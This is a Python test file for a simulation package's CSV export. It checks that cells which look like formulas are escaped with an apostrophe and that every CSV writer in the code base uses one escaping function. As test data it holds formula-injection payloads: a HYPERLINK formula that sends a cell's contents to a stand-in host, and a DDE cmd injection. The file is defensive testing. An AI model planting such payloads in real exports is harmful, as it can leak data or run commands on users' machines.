"""Whatever writes CSV writes it in one place, so that no cell is run by a spreadsheet."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import math
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING

import numpy as np
import pytest

from pacsim import score, sweep
from pacsim.design import design_of
from pacsim.files.csv_text import NUMBER, RUNS, csv_text
from pacsim.results import Result
from pacsim.stats import Estimate
from pacsim.studies.tornado import RangeEnd, Tornado, TornadoBar
from pacsim.studies.uncertain_numbers import uncertain_numbers
from pacsim.traffic.association_rows import ASSOCIATIONS, as_csv
from tests.unit.results.made import made
from tests.unit.service_levels.by_hand import YEAR, level

if TYPE_CHECKING:
    from collections.abc import Callable

PACKAGE = Path(__file__).parents[2] / "pacsim"
ODD = '=HYPERLINK("http://x.example/?"&A1,"open")'
COMPONENT = {"type": "component", "ttf": {"exactly": "6 years"},
             "ttr": {"exactly": "4 h", "low": "2 h", "high": "7 h"}}  # fmt: skip
ONE = {"pacsim": 1, "parts": {"a": COMPONENT}, "roles": {"store": {"needs": ["a"]}}}


def result(file: Path) -> None:
    rows = [
        replace(one, design=ODD, note="@SUM(1)", point=(("+x", "-1 h"),)) for one in made().rows
    ]
    Result(tuple(rows), {}, (ODD,)).to_csv(file)


def study(file: Path) -> None:
    vary = {ODD: {"path": "parts.a.ttr", "values": {"@a": "4 h", "-b": "5 h"}}}
    sweep(design_of(ONE), vary, replications=64, workers=0, progress=False).to_csv(file)


def scores(file: Path) -> None:
    (log := file.with_name("@log.csv")).write_text("start,end,kind\n")
    score(log, level(name=ODD), starts=YEAR[0], ends=YEAR[1]).to_csv(file)


def windows(file: Path) -> None:
    (log := file.with_name("@log.csv")).write_text("start,end,kind\n")
    score(log, level(name=ODD), starts=YEAR[0], ends=YEAR[1]).windows_to_csv(file)


def tornado(file: Path) -> None:
    number = replace(uncertain_numbers([design_of(ONE)])[0], name=ODD)
    bar = TornadoBar(
        number, *(RangeEnd("-2 h", Estimate(x, x, x, 9, ""), 9, 9, "@") for x in (-1.0, 1.0))
    )
    Tornado("x", "store.down", "h", Estimate(1.0, 1.0, 1.0, 9, ""), (bar,), 1, 0.05).to_csv(file)


def associations(file: Path) -> None:
    row = (ODD, "@x", "store", "-y", "+z", -7, 0, 1, 60.5, -90.0, "a", "ok", 2, 9.0, math.nan)
    file.write_text(as_csv(np.array([row], dtype=ASSOCIATIONS), dt.datetime(2027, 1, 1)))


WRITERS: dict[str, tuple[Callable[[Path], None], ...]] = {
    "results/result.py": (result,),
    "studies/study_result.py": (study,),
    "studies/tornado.py": (tornado,),
    "service_levels/scores.py": (scores, windows),
    "traffic/association_rows.py": (associations,),
}
"""Every module that writes CSV, with what makes it write texts like formulas."""
CALLS = {
    ("cli/drawing.py", "found.to_csv"),
    ("cli/scoring_command.py", "found.to_csv"),
    ("cli/simulating.py", "result.to_csv"),
    ("cli/sweep.py", "result.to_csv"),
    ("cli/tornado_command.py", "found.to_csv"),
    ("service_levels/scores.py", "self._result().to_csv"),
}
"""Who calls a method of that name: each of them one of ours, none of pandas, which guards nothing."""
WRITES = {"writer", "DictWriter", "writerow", "writerows", "savetxt"}


@pytest.mark.parametrize("write", [one for some in WRITERS.values() for one in some])
def test_texts_like_formulas_are_not_run(tmp_path: Path, write: Callable[[Path], None]) -> None:
    """Each text begins with an apostrophe, numbers are numbers. Sees: a cell as it is."""
    write(tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert f"'{ODD}" in cells
    assert [one for one in cells if one.startswith(RUNS) and not NUMBER.fullmatch(one)] == []


def test_every_writer_is_known() -> None:
    """Who writes CSV in any other way, or is not in `WRITERS`, fails here."""
    users, calls, others = set(), set(), set()
    for file in sorted(PACKAGE.rglob("*.py")):
        name, text = file.relative_to(PACKAGE).as_posix(), file.read_text(encoding="utf-8")
        if not any(word in text for word in ("csv", *WRITES)):
            continue
        for node in ast.walk(ast.parse(text)):
            if isinstance(node, ast.ImportFrom) and node.module == "pacsim.files.csv_text":
                users.add(name)
            if not isinstance(node, ast.Call) or not isinstance(node.func, ast.Attribute):
                continue
            if node.func.attr == "to_csv":
                calls.add((name, ast.unparse(node.func)))
            if node.func.attr in WRITES:
                others.add(name)
    assert users == set(WRITERS)
    assert calls == CALLS
    assert others == {"files/csv_text.py"}


CELLS: list[tuple[object, str]] = [
    ("=1+1", "'=1+1"),
    ("+49 30 1234", "'+49 30 1234"),
    ("-1 h", "'-1 h"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("\n=1", "'\n=1"),
    ("a\r=1", "a\r=1"),
    ("＝1", "'＝1"),
    ("-", "'-"),
    ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
    ("-٣", "'-٣"),
    ("-3", "-3"),
    ("+0.5e-3", "+0.5e-3"),
    (-2.5, "-2.5"),
    (-7, "-7"),
    (np.float64(-0.1), "-0.1"),
    (np.int64(-3), "-3"),
    (-math.inf, "-inf"),
    (math.nan, ""),
    (None, ""),
    (True, "True"),
    ("a=b", "a=b"),
    ("'=x", "'=x"),
    ("", ""),
]


@pytest.mark.parametrize(("value", "cell"), CELLS, ids=repr)
def test_cells_and_headings(value: object, cell: str) -> None:
    text = csv_text([value, "x"], [[value, "x"]])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [[cell, "x"]] * 2


def test_numbers_are_read_back_as_they_were() -> None:
    numbers = [0.1, -1e-300, 1 / 3, -5.0, 2.0**60]
    cells = csv_text(["a"] * 5, [numbers]).splitlines()[1].split(",")
    assert [float(one) for one in cells] == numbers
